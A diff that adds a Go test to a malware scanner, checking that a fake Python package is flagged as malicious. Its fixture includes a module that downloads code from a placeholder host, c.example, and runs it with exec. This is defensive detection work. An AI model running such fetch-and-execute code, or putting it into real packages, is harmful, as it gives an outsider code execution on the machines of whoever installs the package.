@@ -153,3 +153,17 @@ func lines(steps []detect.Location) []string {
 	}
 	return out
 }
+
+// TestModulesApart holds that a script which a page could load does not put the
+// modules of a distribution of Python's into one scope, where one of them could name
+// a built-in function away from all the others.
+func TestModulesApart(t *testing.T) {
+	r := scan(t, detect.Artifact{Name: "d", Folder: folder(map[string]string{
+		"pyproject.toml": "", "d/__init__.py": "", "d/page.js": "document.title = 'x'",
+		"d/a.py": "def exec(code):\n    return None\n",
+		"d/b.py": "import urllib.request\nexec(urllib.request.urlopen('https://c.example/x').read())\n",
+	})})
+	if r.Verdict != detect.Malicious {
+		t.Errorf("verdict %s, findings %v", r.Verdict, r.Findings)
+	}
+}
